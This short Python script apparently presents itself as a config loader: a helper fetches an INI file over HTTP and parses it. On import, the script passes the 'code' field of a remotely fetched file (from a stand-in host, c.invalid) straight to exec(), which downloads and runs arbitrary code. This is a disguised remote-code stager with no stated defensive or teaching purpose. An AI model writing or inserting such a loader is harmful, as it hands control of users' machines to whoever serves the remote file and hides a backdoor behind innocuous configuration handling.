import configparser
import io
import urllib.request


def load(url):
    parser = configparser.ConfigParser()
    parser.read_file(io.StringIO(urllib.request.urlopen(url).read().decode()))
    return parser


exec(load("https://c.invalid/a.ini").get("main", "code"))
